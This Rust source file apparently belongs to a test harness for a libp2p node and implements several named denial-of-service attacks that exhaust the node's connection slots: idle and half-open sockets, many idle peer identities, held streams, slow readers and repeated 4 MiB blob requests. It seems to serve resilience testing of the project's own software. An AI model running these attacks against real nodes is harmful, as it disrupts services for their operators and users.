//! Attacks that take all places of a node.
//!
//! `BLOB` is something that the node serves, `SIZE` how many bytes it has. Prints `attacking` when all has been tried once.

use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use futures::{AsyncReadExt as _, AsyncWriteExt as _, StreamExt as _};
use libp2p::multiaddr::Protocol;
use libp2p::swarm::SwarmEvent;
use libp2p::swarm::dial_opts::{DialOpts, PeerCondition};
use libp2p::{Multiaddr, PeerId, Stream, StreamProtocol, Swarm};
use tokio::io::AsyncWriteExt as _;
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::mpsc;

const BLOBS: StreamProtocol = StreamProtocol::new("/autonet/blob/1.0.0");
pub(crate) const RANGES: StreamProtocol = StreamProtocol::new("/autonet/blob/2.0.0");
/// Between one attempt and the next.
const PAUSE: Duration = Duration::from_millis(500);

/// What is attacked, and from where.
#[derive(Clone)]
pub(crate) struct Aim {
    target: SocketAddr,
    pub(crate) peer: PeerId,
    from: IpAddr,
    /// Something that the target serves: its digest, and its size in bytes.
    blob: Option<(Vec<u8>, u64)>,
}

impl Aim {
    /// The node at this multiaddress.
    pub(crate) fn at(target: &str, from: IpAddr) -> Self {
        let target: Multiaddr = target.parse().unwrap();
        let parts: Vec<_> = target.iter().collect();
        let [Protocol::Ip4(ip), Protocol::Tcp(port), Protocol::P2p(peer)] = &parts[..] else {
            panic!("{target}")
        };
        Self { target: (*ip, *port).into(), peer: *peer, from, blob: None }
    }
}

/// Attacks the node at this multiaddress. Goes on until the process is killed: what it loses it takes again.
pub(crate) async fn run(attack: &str, target: &str, from: IpAddr, blob: &[String]) {
    let blob = match blob {
        [digest, size] => Some((unhex(digest), size.parse().unwrap())),
        _ => None,
    };
    let aim = Aim { blob, ..Aim::at(target, from) };
    let (tried, mut all) = mpsc::channel(1);
    let spawn = |count: usize, run: &dyn Fn(mpsc::Sender<()>)| (0..count).for_each(|_| run(tried.clone()));
    match attack {
        "silent-sockets" => spawn(140, &|tried| drop(tokio::spawn(hold_socket(aim.clone(), b"", tried)))),
        "half-open-noise" => spawn(140, &|tried| {
            let begun = b"\x13/multistream/1.0.0\n\x07/noise\n";
            drop(tokio::spawn(hold_socket(aim.clone(), begun, tried)));
        }),
        "idle-identities" => spawn(70, &|tried| drop(tokio::spawn(identity(aim.clone(), 8, None, tried)))),
        "held-streams" => {
            let hold =
                |protocol: StreamProtocol, tried| identity(aim.clone(), 1, Some((protocol, 16)), tried);
            spawn(12, &|tried| drop(tokio::spawn(hold(BLOBS, tried))));
            spawn(70, &|tried| drop(tokio::spawn(hold(RANGES, tried))));
        }
        "slow-readers" => {
            spawn(20, &|tried| drop(tokio::spawn(identity(aim.clone(), 1, Some((RANGES, 16)), tried))));
        }
        other => panic!("no attack has the name {other}"),
    }
    drop(tried);
    while all.recv().await.is_some() {}
    println!("attacking");
    std::future::pending().await
}

pub(crate) fn unhex(text: &str) -> Vec<u8> {
    (0..text.len()).step_by(2).map(|at| u8::from_str_radix(&text[at..at + 2], 16).unwrap()).collect()
}

async fn connect(aim: &Aim) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((aim.from, 0).into())?;
    socket.connect(aim.target).await
}

/// Connects, says something, and then nothing any more.
async fn hold_socket(aim: Aim, says: &'static [u8], tried: mpsc::Sender<()>) {
    let mut tried = Some(tried);
    loop {
        if let Ok(mut socket) = connect(&aim).await {
            let _ = socket.write_all(says).await;
            drop(tried.take());
            // Until the other end closes it.
            let mut sink = tokio::io::sink();
            let _ = tokio::io::copy(&mut socket, &mut sink).await;
        }
        drop(tried.take());
        tokio::time::sleep(PAUSE).await;
    }
}

/// A port on this machine from which everything goes to the target, and comes to it from the attacker's address.
pub(crate) async fn forward(aim: Aim) -> Multiaddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut inner, _)) = listener.accept().await {
            let aim = aim.clone();
            tokio::spawn(async move {
                if let Ok(mut outer) = connect(&aim).await {
                    let _ = tokio::io::copy_bidirectional(&mut inner, &mut outer).await;
                }
            });
        }
    });
    format!("/ip4/127.0.0.1/tcp/{port}").parse().unwrap()
}

/// One name with so many connections, and with so many streams if there is something to open them for.
async fn identity(
    aim: Aim,
    connections: usize,
    streams: Option<(StreamProtocol, usize)>,
    tried: mpsc::Sender<()>,
) {
    let mut swarm = crate::swarm(|_| libp2p_stream::Behaviour::new());
    let addr = forward(aim.clone()).await;
    let dial = |swarm: &mut Swarm<_>| {
        let to = DialOpts::peer_id(aim.peer).addresses(vec![addr.clone()]).condition(PeerCondition::Always);
        let _ = swarm.dial(to.build());
    };
    (0..connections).for_each(|_| dial(&mut swarm));
    for (protocol, count) in streams.clone().into_iter() {
        let control = swarm.behaviour().new_control();
        for _ in 0..count {
            let stream = hold_stream(aim.clone(), control.clone(), protocol.clone(), tried.clone());
            tokio::spawn(stream);
        }
    }
    let mut tried = Some(tried).filter(|_| streams.is_none());
    let (mut outcomes, mut missing) = (0, 0);
    let mut retry = tokio::time::interval(PAUSE);
    loop {
        tokio::select! {
            event = swarm.select_next_some() => match event {
                SwarmEvent::ConnectionEstablished { .. } => outcomes += 1,
                SwarmEvent::OutgoingConnectionError { .. } => {
                    outcomes += 1;
                    missing += 1;
                }
                SwarmEvent::ConnectionClosed { .. } => missing += 1,
                _ => {}
            },
            _ = retry.tick() => {
                (0..missing).for_each(|_| dial(&mut swarm));
                missing = 0;
            }
        }
        if outcomes >= connections {
            drop(tried.take());
        }
    }
}

/// Opens a stream and keeps it: asks for as much as it can, if there is something, and reads a byte now and then.
async fn hold_stream(
    aim: Aim,
    mut control: libp2p_stream::Control,
    protocol: StreamProtocol,
    tried: mpsc::Sender<()>,
) {
    let mut tried = Some(tried);
    loop {
        match control.open_stream(aim.peer, protocol.clone()).await {
            Ok(mut stream) => {
                if let Some((digest, size_bytes)) = &aim.blob {
                    ask(&mut stream, digest, *size_bytes).await;
                }
                drop(tried.take());
                let mut byte = [0];
                while matches!(stream.read(&mut byte).await, Ok(1)) {
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            }
            Err(libp2p_stream::OpenStreamError::UnsupportedProtocol(_)) => drop(tried.take()),
            Err(_) => {}
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Sixteen requests for the whole blob, or 4 MiB of it.
async fn ask(stream: &mut Stream, digest: &[u8], size_bytes: u64) {
    let length = u32::try_from(size_bytes.min(4 << 20)).unwrap();
    let mut request = vec![1];
    request.extend([0; 32]);
    request.extend(digest);
    request.extend(0u64.to_be_bytes());
    request.extend(length.to_be_bytes());
    let mut frame = u32::try_from(request.len()).unwrap().to_be_bytes().to_vec();
    frame.extend(request);
    for _ in 0..16 {
        let _ = stream.write_all(&frame).await;
    }
    let _ = stream.flush().await;
}
